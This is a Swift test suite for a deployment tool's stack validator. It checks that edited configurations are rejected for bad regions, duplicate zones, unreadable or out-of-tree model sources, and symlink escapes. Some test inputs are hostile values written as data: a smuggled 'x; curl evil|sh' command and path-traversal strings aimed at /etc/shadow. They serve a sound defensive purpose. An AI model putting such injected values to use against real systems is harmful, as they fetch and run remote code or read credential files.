import Foundation
import Testing
@testable import DeployCLI

/// The shipped templates refuse what AWS would refuse only halfway through an apply: each case edits the default
/// stack in one place and expects `deploy validate` to exit 2 with that message (or 0 with that warning).
@Suite("shipped stack validation")
struct ShippedStackValidationTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var edit: (String, String)
        var code: Int32
        var message: String
        var testDescription: String { message }
    }

    static let cases: [Case] = [
        Case(edit: ("region: \"eu-west-1\"", "region: \"mars-north-9\""), code: 2, message: "region 'mars-north-9' does not exist"),
        Case(edit: ("\"eu-west-1a\", \"eu-west-1b\"", "\"eu-west-1a\", \"us-east-1b\""), code: 2,
             message: "'us-east-1b' does not match the pattern eu-west-1"),
        Case(edit: ("\"eu-west-1a\", \"eu-west-1b\"", "\"eu-west-1b\", \"eu-west-1b\""), code: 2,
             message: "'availability_zones' lists \"eu-west-1b\" more than once"),
        Case(edit: ("allowed_cidrs: [\"10.0.0.0/8\"],", "allowed_cidrs: [\"10.0.0.0/8\"], interface_endpoints: [\"kms\", \"sts\", \"kms\"],"),
             code: 2, message: "'interface_endpoints' lists \"kms\" more than once"),
        Case(edit: ("allowed_cidrs: [\"10.0.0.0/8\"],", "allowed_cidrs: [\"10.0.0.0/8\"], interface_endpoints: [\"kms\", \"\"],"),
             code: 2, message: "'interface_endpoints': '' does not match"),
        Case(edit: ("allowed_cidrs: [\"10.0.0.0/8\"],", "allowed_cidrs: [\"10.0.0.0/8\"], endpoint_service_prefix: \"com/../evil.\","),
             code: 2, message: "'endpoint_service_prefix': 'com/../evil.' does not match"),
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_key: \"../../etc/shadow\","), code: 2,
             message: "'model_key': '../../etc/shadow' does not match"),
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, server_key: \"x; curl evil|sh\","), code: 2,
             message: "'server_key': 'x; curl evil|sh' does not match"),
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_source: \"artifacts/absent.gguf\","), code: 2,
             message: "storage.model: source 'artifacts/absent.gguf': cannot read"),
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_source: \"artifacts\","), code: 2,
             message: "storage.model: source 'artifacts': "),
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_source: \"/etc/hostname\","), code: 2,
             message: "storage.model: source '/etc/hostname' is outside the stack's directory ("),
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_source: \"../../../../../../etc/hostname\","), code: 2,
             message: "storage.model: source '../../../../../../etc/hostname' is outside the stack's directory ("),
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_source: \"artifacts/escape.gguf\","), code: 2,
             message: "storage.model: source 'artifacts/escape.gguf' is a symbolic link to "),
        // a link that stays inside the tree is fine
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_source: \"artifacts/inside.gguf\","), code: 0,
             message: ""),
        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, keys_source: \"artifacts/empty.json\","), code: 2,
             message: "storage.api_keys: source 'artifacts/empty.json' ("),
        Case(edit: ("accelerator: \"cpu\",", "accelerator: \"cpu\", instance_type: \"c7i.2xlarg\","), code: 2,
             message: "instance type 'c7i.2xlarg' is not in the price catalog; did you mean 'c7i.2xlarge'?"),
        Case(edit: ("allowed_cidrs: [\"10.0.0.0/8\"]", "allowed_cidrs: [\"10.0.0.0/8\", \"0.0.0.0/0\"]"), code: 0,
             message: "warning: "),
    ]

    @Test("an edited default stack", arguments: cases)
    func edited(_ test: Case) async throws {
        let (stack, directory) = try StackCommandTests().scratchStack()
        defer { try? FileManager.default.removeItem(at: directory) }
        let text = try String(contentsOfFile: stack, encoding: .utf8)
        #expect(text.contains(test.edit.0))
        FileManager.default.createFile(atPath: directory.appendingPathComponent("Stacks/artifacts/empty.json").path, contents: Data())
        // a link out of the tree, and one that stays inside it
        try FileManager.default.createSymbolicLink(atPath: directory.appendingPathComponent("Stacks/artifacts/escape.gguf").path,
                                                   withDestinationPath: "/etc/hostname")
        try FileManager.default.createSymbolicLink(atPath: directory.appendingPathComponent("Stacks/artifacts/inside.gguf").path,
                                                   withDestinationPath: "model.gguf")
        try text.replacingOccurrences(of: test.edit.0, with: test.edit.1).write(toFile: stack, atomically: true, encoding: .utf8)
        let (code, output) = await CommandLineTests().run(["validate", "--stack", stack])
        #expect(code == test.code, "\(output.stderr)")
        #expect(test.message.isEmpty || output.stderr.contains(test.message), "\(output.stderr)")
    }

    @Test("a type newer than the catalog is accepted once the stack allows it; the open-port warning names its line")
    func allowances() async throws {
        let (stack, directory) = try StackCommandTests().scratchStack()
        defer { try? FileManager.default.removeItem(at: directory) }
        let text = try String(contentsOfFile: stack, encoding: .utf8)
            .replacingOccurrences(of: "accelerator: \"cpu\",", with: "accelerator: \"cpu\", instance_type: \"c8i.large\",")
            .replacingOccurrences(of: "  phases: {", with: "  allow: { instance_types: [\"c8i.large\"], regions: [\"eu-west-9\"] },\n  phases: {")
            .replacingOccurrences(of: "allowed_cidrs: [\"10.0.0.0/8\"]", with: "allowed_cidrs: [\"0.0.0.0/0\"]")
        try text.write(toFile: stack, atomically: true, encoding: .utf8)
        let (code, output) = await CommandLineTests().run(["validate", "--stack", stack])
        #expect(code == 0, "\(output.stderr)")
        let line = try #require(text.split(separator: "\n", omittingEmptySubsequences: false).firstIndex { $0.contains("0.0.0.0/0") }) + 1
        #expect(output.stderr.hasPrefix("warning: \(stack):\(line):"), "\(output.stderr)")
        #expect(output.stderr.contains("open to every address"))
    }
}
